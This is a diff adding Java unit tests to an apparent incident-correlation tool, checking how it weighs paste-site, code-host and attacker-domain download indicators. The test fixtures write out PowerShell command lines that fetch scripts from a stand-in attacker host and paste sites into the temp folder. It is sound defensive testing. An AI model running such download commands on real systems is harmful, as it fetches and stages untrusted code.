@@ -62,6 +62,10 @@ class IncidentTrustTest {
         assertEquals(AddressClass.INTERNAL, AddressClass.of("192.168.1.20"));
         assertEquals(AddressClass.INTERNAL, AddressClass.of("100.64.12.7"));
         assertEquals(AddressClass.INTERNAL, AddressClass.of("fd00::5"));
+        assertEquals(AddressClass.SHARED, AddressClass.of("151.101.0.133"), "Fastly, behind raw.githubusercontent.com");
+        assertEquals(AddressClass.SHARED, AddressClass.of("104.20.208.21"), "Cloudflare, behind pastebin.com");
+        assertEquals(AddressClass.SHARED, AddressClass.of("140.82.114.4"), "GitHub");
+        assertEquals(AddressClass.SHARED, AddressClass.of("2606:4700::6810:84e5"), "Cloudflare");
         assertEquals(AddressClass.PUBLIC, AddressClass.of("104.140.114.110"));
         assertEquals(AddressClass.PUBLIC, AddressClass.of("203.0.113.77"));
         assertEquals(AddressClass.PUBLIC, AddressClass.of("2a00:1450::1"));
@@ -107,6 +111,38 @@ class IncidentTrustTest {
         assertFalse(ia.findings().contains(lead.id()));
         Incident.Attributed account = ia.indicators().stream().filter(x -> x.type().equals("account")).findFirst().orElseThrow();
         assertEquals(Strength.WEAK, account.strength());
+    }
+
+    private static Finding download(PivotCase c, String time, String host, String url) {
+        Event e = c.windows(time, host, "sysmon.json", Map.of("EventID", "1", "Image",
+                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "CommandLine",
+                "powershell -c iwr " + url + " -OutFile $env:TEMP\\x.ps1"));
+        return c.finding(e, "PowerShell download");
+    }
+
+    @Test
+    void aPasteSiteOrCodeHostNameIsALeadNotALinkButItsUrlIsStrong() throws Exception {
+        PivotCase c = new PivotCase();
+        Finding admin = download(c, "2020-01-10T10:00:00Z", "srv1.corp.local", "https://raw.githubusercontent.com/PowerShell/PowerShell/master/tools/install-powershell.ps1");
+        Finding actor = download(c, "2020-06-10T10:00:00Z", "srv1.corp.local", "https://raw.githubusercontent.com/x0r/kit/main/stage.ps1");
+        Finding paste1 = download(c, "2020-02-10T10:00:00Z", "srv1.corp.local", "https://pastebin.com/raw/H4A4iDTA");
+        Finding paste2 = download(c, "2020-07-10T10:00:00Z", "srv1.corp.local", "https://pastebin.com/raw/y2CjnRtH");
+        Finding own1 = download(c, "2020-03-10T10:00:00Z", "srv1.corp.local", "https://cdn.evil-updates.example/a.ps1");
+        Finding own2 = download(c, "2020-08-10T10:00:00Z", "srv1.corp.local", "https://cdn.evil-updates.example/b.ps1");
+        Finding same1 = download(c, "2020-04-10T10:00:00Z", "srv1.corp.local", "https://pastebin.com/raw/Qq1Zz");
+        Finding same2 = download(c, "2020-09-10T10:00:00Z", "srv1.corp.local", "https://pastebin.com/raw/Qq1Zz");
+        PivotResult r = c.run(1, PivotConfig.DEFAULT);
+        assertNotEquals(incidentOf(r, admin), incidentOf(r, actor), "two raw.githubusercontent.com downloads five months apart");
+        assertNotEquals(incidentOf(r, paste1), incidentOf(r, paste2), "two pastes");
+        assertEquals(incidentOf(r, own1), incidentOf(r, own2), "the actor's own domain links");
+        assertEquals(incidentOf(r, same1), incidentOf(r, same2), "one paste's URL links");
+        for (Incident i : r.incidents()) {
+            for (Incident.Attributed a : i.indicators()) {
+                if (a.value().endsWith("githubusercontent.com") || a.value().equals("pastebin.com")) {
+                    assertEquals(Strength.WEAK, a.strength(), a.toString());
+                }
+            }
+        }
     }
 
     @Test
